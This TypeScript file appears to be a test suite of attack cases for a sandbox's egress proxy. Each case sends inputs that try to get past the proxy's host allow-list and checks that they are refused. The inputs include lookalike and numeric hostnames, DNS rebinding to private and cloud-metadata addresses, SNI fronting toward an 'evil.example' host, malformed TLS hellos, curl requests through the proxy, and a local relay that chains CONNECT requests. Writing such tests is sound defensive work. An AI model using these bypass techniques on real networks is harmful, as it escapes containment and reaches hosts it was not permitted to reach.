import type { Attack } from '../attack.ts';
import { heard } from './direct.attacks.ts';
import { python } from './python.ts';

const anyHost = { weakness: 'any-host', without: 'the gateway’s list of hosts' } as const;
const noHello = { weakness: 'no-hello', without: 'the look at the first bytes of a tunnel' } as const;

/** A public address that a name of a case resolves to; each case has its own. */
const address = (n: number) => `93.184.${n}.9`;

export const attacks: readonly Attack[] = [
  {
    id: 'N4',
    title: 'CONNECT to a host that is not listed',
    expected: '403; the host is told in the thread',
    representative: true,
    settings: { network: ['n4.example'] },
    attack: async (stage) => {
      const { word, canaries } = stage;
      canaries.resolve(`${word}.example`, () => [address(4)]);
      await stage.play(python(word, `say(tunnel('${word}.example:443'), hello(sni('${word}.example'), alpn(word)))`));
      const verdict = heard(stage);
      if (verdict.through) return verdict;
      await stage.until('the host in its thread', () => stage.thread().includes(`${word}.example`));
      return { through: false, seen: `${verdict.seen}; told in the thread` };
    },
    control: anyHost,
  },
  {
    id: 'N5',
    title: 'names around a listed one: suffix, prefix, userinfo, NUL, dots',
    expected: '403 or 400; nothing is resolved or reached',
    settings: { network: ['n5.example'] },
    attack: async (stage) => {
      const { word } = stage;
      await stage.play(
        python(
          word,
          `
w = '${word}'
for name in [w + '.n5.example', 'n5.example.' + w + '.net', 'x' + w + 'n5.example', 'n5.example@' + w + '.net',
             w + '.net#n5.example', 'n5.example\\0.' + w + '.net', 'n5.example/' + w + '.net', w + '.net?n5.example',
             'N5.EXAMPLE.' + w + '.NET', 'n5.example..' + w, w + '.n5.example.', 'n5.example%2e' + w + '.net']:
    s = tunnel(name.encode('latin1') + b':443')
    say(s, hello(sni(name), alpn(word)))`,
        ),
      );
      return heard(stage);
    },
    control: { weakness: 'loose-hosts', without: 'exact names: the listed one may stand anywhere in it' },
  },
  {
    id: 'N6',
    title: 'addresses in place of names: v4, v6, decimal, hexadecimal',
    expected: '403; no connection',
    settings: { network: ['n6.example'] },
    attack: async (stage) => {
      await stage.play(
        python(
          stage.word,
          `
for name in ['93.184.6.9', '[2606:2800:6::9]', str((93 << 24) + (184 << 16) + (6 << 8) + 9), '0x5db80609',
             '93.184.1545', '[::ffff:93.184.6.9]', '0135.0270.06.011', '93.184.6.9.']:
    say(tunnel(name + ':443'), hello(sni('n6.example'), alpn(word)))`,
        ),
      );
      return heard(stage);
    },
    control: { weakness: 'addresses', without: 'the rule that only names are reached' },
  },
  {
    id: 'N7',
    title: 'another port of an allowed host',
    expected: '403; only port 443 is dialled',
    settings: { network: ['n7.example'] },
    attack: async (stage) => {
      const { word, canaries } = stage;
      canaries.resolve('n7.example', () => [address(7)]);
      await stage.play(
        python(word, `for port in [22, 25, 80, 6379, 8080]: say(tunnel('n7.example:%d' % port), word + b'\\r\\n')`),
      );
      const ports = [...new Set(canaries.seen(word).map(({ port }) => port))].filter((port) => port !== 443);
      return { through: ports.length > 0, seen: ports.length > 0 ? `port ${ports.join(', ')}` : 'canaries: nothing' };
    },
    control: { weakness: 'any-port', without: 'the rule that only port 443 is dialled' },
  },
  {
    id: 'N8',
    title: 'an allowed name that resolves inside, also from its second answer on',
    expected: '403; no private address is dialled',
    settings: { network: ['n8.example', 'n8m.example', 'n8r.example'] },
    attack: async (stage) => {
      const { word, canaries } = stage;
      let asked = 0;
      canaries.resolve('n8.example', () => ['10.8.0.9', 'fd00:8::9']);
      canaries.resolve('n8m.example', () => ['169.254.169.254']);
      canaries.resolve('n8r.example', () => (++asked % 2 === 1 ? [address(8)] : ['10.8.0.10']));
      await stage.play(
        python(
          word,
          `
for name in ['n8.example', 'n8m.example'] + ['n8r.example'] * 8:
    say(tunnel(name + ':443'), hello(sni(name), alpn(word)))`,
        ),
      );
      return heard(stage, (at) => /^(?:10\.|169\.254\.|f)/.test(at));
    },
    control: { weakness: 'private-addresses', without: 'the rule on private addresses' },
  },
  {
    id: 'N9',
    title: 'fronting: the name of another server inside an allowed tunnel',
    expected: 'closed before the first byte goes on',
    settings: { network: ['n9.example'] },
    attack: async (stage) => {
      const { word, canaries } = stage;
      canaries.resolve('n9.example', () => [address(9)]);
      await stage.play(
        python(
          word,
          `
for name in ['${word}.evil.example', 'evil.n9.example', 'n9.example.evil.example']:
    say(tunnel('n9.example:443'), hello(sni(name), alpn(word)))`,
        ),
      );
      return heard(stage);
    },
    control: noHello,
  },
  {
    id: 'N10',
    title: 'what is not TLS in an allowed tunnel: ssh, HTTP, raw bytes',
    expected: 'closed before the first byte goes on',
    settings: { network: ['n10.example'] },
    attack: async (stage) => {
      const { word, canaries } = stage;
      canaries.resolve('n10.example', () => [address(10)]);
      await stage.play(
        python(
          word,
          `
for data in [b'SSH-2.0-' + word + b'\\r\\n', b'GET /' + word + b' HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n', b'\\0' * 9 + word,
             b'\\x16\\3\\1' + word, b'\\x17\\3\\3\\0\\x20' + word]:
    say(tunnel('n10.example:443'), data)`,
        ),
      );
      return heard(stage);
    },
    control: noHello,
  },
  {
    id: 'N11',
    title: 'plain HTTP through the proxy, in absolute form',
    expected: '403; nothing is resolved or reached',
    settings: { network: ['n11.example'] },
    attack: async (stage) => {
      const { word } = stage;
      const curl = "curl -s -m 5 -x http://127.0.0.1:3128 --noproxy '' -o /dev/null";
      await stage.play(
        `${curl} http://n11.example/${word}; ${curl} http://${word}.example/; ${curl} -d ${word} http://n11.example:8080/; true`,
      );
      return heard(stage);
    },
    control: { weakness: 'plain-http', without: 'the refusal of plain HTTP' },
  },
  {
    id: 'N18',
    title: 'ClientHellos without a name, with two, in pieces, encrypted (ECH)',
    expected: 'closed before the first byte goes on',
    settings: { network: ['n18.example'] },
    attack: async (stage) => {
      const { word, canaries } = stage;
      canaries.resolve('n18.example', () => [address(18)]);
      await stage.play(
        python(
          word,
          `
evil = '${word}.evil.example'
pieces = handshake(sni(evil), alpn(word))
for data in [hello(alpn(word)), hello(sni('n18.example', evil), alpn(word)), hello(sni('n18.example'), sni(evil), alpn(word)),
             hello(sni('n18.example'), ext(0xfe0d, b'\\0' * 40), alpn(word)),
             b''.join(record(pieces[n:n + 7]) for n in range(0, len(pieces), 7)),
             hello(sni(''), alpn(word)), hello(ext(21, b'\\0' * 16000), sni(evil), alpn(word))]:
    say(tunnel('n18.example:443'), data)`,
        ),
      );
      return heard(stage);
    },
    control: noHello,
  },
  {
    id: 'N22',
    title: 'a relay inside, and a CONNECT inside an allowed tunnel',
    expected: 'the same verdict as without',
    settings: { network: ['n22.example'] },
    attack: async (stage) => {
      const { word, canaries } = stage;
      canaries.resolve('n22.example', () => [address(22)]);
      canaries.resolve(`${word}.example`, () => [address(22)]);
      await stage.play(
        python(
          word,
          `
import threading
def relay():
    listener = socket.create_server(('127.0.0.1', 9922))
    while True:
        one, _ = listener.accept()
        other = tcp('127.0.0.1', 3128)
        def pump(a, b):
            try:
                while (data := a.recv(4096)): b.sendall(data)
            except OSError: pass
        for a, b in [(one, other), (other, one)]: threading.Thread(target=pump, args=(a, b), daemon=True).start()
threading.Thread(target=relay, daemon=True).start()
time.sleep(0.3)
evil = '${word}.example'
say(tunnel(evil + ':443', 9922), hello(sni(evil), alpn(word)))
say(tunnel('n22.example:443', 9922), b'CONNECT ' + evil.encode() + b':443 HTTP/1.1\\r\\nhost: n22.example\\r\\n\\r\\n')
say(tcp('127.0.0.1', 9922), b'CONNECT n22.example:443 HTTP/1.1\\r\\nhost: ' + evil.encode() + b'\\r\\n\\r\\nCONNECT ' + evil.encode() + b':443 HTTP/1.1\\r\\n\\r\\n')`,
        ),
      );
      return heard(stage);
    },
    control: anyHost,
  },
];
